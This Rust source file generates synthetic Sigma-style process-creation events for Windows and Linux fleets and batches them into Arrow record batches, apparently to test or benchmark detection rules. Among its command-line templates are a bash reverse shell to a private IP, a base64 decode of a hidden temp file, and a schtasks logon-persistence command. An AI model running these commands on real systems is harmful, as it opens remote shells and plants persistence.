//! Process creations as fleets make them, from a seed: a few programs make most of the events, most command lines are
//! repeated to the letter, and some carry a path, number or address that never comes again.

use arrow::array::{ArrayRef, RecordBatch, StringArray};
use std::sync::Arc;

/// Rows of one batch.
pub const BATCH_ROWS: usize = 4_096;

/// One process creation, with Sigma's field names.
#[derive(Clone)]
pub struct Event {
    pub fields: Vec<(&'static str, String)>,
}

/// xorshift64*, so that a seed means the same events everywhere.
pub struct Random(u64);

impl Random {
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, bound: usize) -> usize {
        (self.next() >> 33) as usize % bound
    }

    /// Small numbers much more often than large ones.
    fn skewed(&mut self, bound: usize) -> usize {
        let share = self.below(1_000_000) as f64 / 1_000_000.0;
        ((bound as f64).powf(share) - 1.0) as usize % bound
    }
}

/// Image, command line with `{}` for what changes, original file name (Windows).
type Program = (&'static str, &'static str, &'static str);

const WINDOWS: &[Program] = &[
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "svchost.exe"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "CONHOST.EXE"),
    (
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /c "C:\Program Files\Agent\check.bat" {}"#,
        "Cmd.Exe",
    ),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe Install $(Arg0)", "taskhostw.exe"),
    (
        r"C:\Windows\System32\backgroundTaskHost.exe",
        r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{}.mca"#,
        "backgroundTaskHost.exe",
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle={},i,1234567,7654321,131072 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={} --launch-time-ticks={}"#,
        "chrome.exe",
    ),
    (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        "Wmiprvse.exe",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell.exe -NonInteractive -File "C:\ProgramData\Ops\inventory.ps1" -Id {}"#,
        "PowerShell.EXE",
    ),
    (
        r"C:\Windows\System32\SearchProtocolHost.exe",
        r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{}_ Global\UsGthrCtrlFltPipeMssGthrPipe{} 1 -2147483646 "Software\Microsoft\Windows Search""#,
        "SearchProtocolHost.exe",
    ),
    (r"C:\Windows\System32\reg.exe", r#"reg query "HKLM\SOFTWARE\Vendor\Product" /v Version"#, "reg.exe"),
    (r"C:\Windows\System32\net.exe", r"net use \\files{}\share", "net.exe"),
    (r"C:\Program Files\Git\cmd\git.exe", "git.exe fetch origin refs/heads/feature-{} --no-tags --prune", "git.exe"),
    (r"C:\Windows\System32\msiexec.exe", r"C:\Windows\system32\msiexec.exe /V", "msiexec.exe"),
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\system32\shell32.dll,Control_RunDLL intl.cpl",
        "RUNDLL32.EXE",
    ),
    (r"C:\Windows\System32\whoami.exe", "whoami /all", "whoami.exe"),
    (
        r"C:\Windows\System32\schtasks.exe",
        r#"schtasks /create /tn "Upd{}" /tr "C:\Users\Public\u{}.exe" /sc onlogon /f"#,
        "schtasks.exe",
    ),
];

const LINUX: &[Program] = &[
    ("/usr/bin/dash", "/bin/sh -c run-parts --report /etc/cron.hourly", ""),
    (
        "/usr/sbin/runc",
        "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{}/log.json --log-format json exec --process /tmp/runc-process{} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/{}.pid {}",
        "",
    ),
    ("/usr/bin/grep", "grep -q healthy", ""),
    ("/usr/bin/sleep", "sleep 5", ""),
    ("/usr/bin/curl", "curl -sf http://127.0.0.1:8080/healthz", ""),
    ("/usr/sbin/iptables", "iptables -w 5 -W 100000 -S KUBE-SERVICES -t nat", ""),
    ("/usr/bin/cat", "cat /proc/{}/status", ""),
    ("/usr/bin/python3.11", "/usr/bin/python3 /opt/agent/collect.py --interval 60 --id {}", ""),
    ("/usr/sbin/sshd", "sshd: deploy [priv]", ""),
    ("/usr/bin/gcc", "gcc -O2 -g -Wall -Iinclude -c -o build/obj/module_{}.o src/module_{}.c", ""),
    ("/usr/bin/sed", "sed -n s/^version: //p /srv/app/release-{}.yaml", ""),
    ("/usr/bin/tar", "tar -czf /backup/daily-{}.tar.gz /srv/data", ""),
    ("/usr/bin/id", "id -u", ""),
    ("/usr/bin/crontab", "crontab -l", ""),
    ("/usr/bin/bash", "bash -i >& /dev/tcp/10.1.2.3/{} 0>&1", ""),
    ("/usr/bin/base64", "base64 -d /tmp/.x{}", ""),
];

const USERS: &[&str] = &["SYSTEM", "NETWORK SERVICE", "svc-build", "alice", "bob", "deploy", "root"];

/// `count` events; `repeated` of a hundred command lines are ones that came before.
pub fn generate(seed: u64, count: usize, windows: bool, repeated: usize) -> Vec<Event> {
    let mut random = Random::new(seed);
    let programs = if windows { WINDOWS } else { LINUX };
    (0..count)
        .map(|_| {
            let (image, line, original) = programs[random.skewed(programs.len())];
            let (parent, parent_line, _) = programs[random.skewed(programs.len())];
            // What changes is either one of a few values or a new one.
            let fresh = random.below(100) >= repeated;
            let mut fill = |text: &str| {
                let mut filled = String::with_capacity(text.len() + 16);
                for (number, part) in text.split("{}").enumerate() {
                    if number > 0 {
                        let value = if fresh { random.next() } else { random.skewed(40) as u64 };
                        filled.push_str(&format!("{value:x}"));
                    }
                    filled.push_str(part);
                }
                if fresh && !text.contains("{}") {
                    filled.push_str(&format!(" --trace={:x}", random.next()));
                }
                filled
            };
            let command_line = fill(line);
            let parent_command_line = parent_line.replace("{}", "17");
            let directory = if windows { r"C:\Windows\system32\" } else { "/srv/app" };
            let mut fields = vec![
                ("Image", image.to_owned()),
                ("CommandLine", command_line),
                ("ParentImage", parent.to_owned()),
                ("ParentCommandLine", parent_command_line),
                ("User", USERS[random.skewed(USERS.len())].to_owned()),
                ("CurrentDirectory", directory.to_owned()),
            ];
            if windows {
                fields.push(("OriginalFileName", original.to_owned()));
                fields.push(("IntegrityLevel", if random.below(4) == 0 { "Medium" } else { "System" }.to_owned()));
            }
            Event { fields }
        })
        .collect()
}

/// Batches of plain text columns, with the names that `rename` gives.
pub fn batches(events: &[Event], rename: &dyn Fn(&'static str) -> &'static str) -> anyhow::Result<Vec<RecordBatch>> {
    events
        .chunks(BATCH_ROWS)
        .map(|chunk| {
            let columns = (0..chunk[0].fields.len()).map(|at| {
                let name = rename(chunk[0].fields[at].0);
                let values: StringArray = chunk.iter().map(|e| Some(e.fields[at].1.as_str())).collect();
                (name, Arc::new(values) as ArrayRef)
            });
            let action: StringArray = chunk.iter().map(|_| Some("ProcessCreated")).collect();
            let action = std::iter::once(("ActionType", Arc::new(action) as ArrayRef));
            Ok(RecordBatch::try_from_iter(columns.chain(action))?)
        })
        .collect()
}
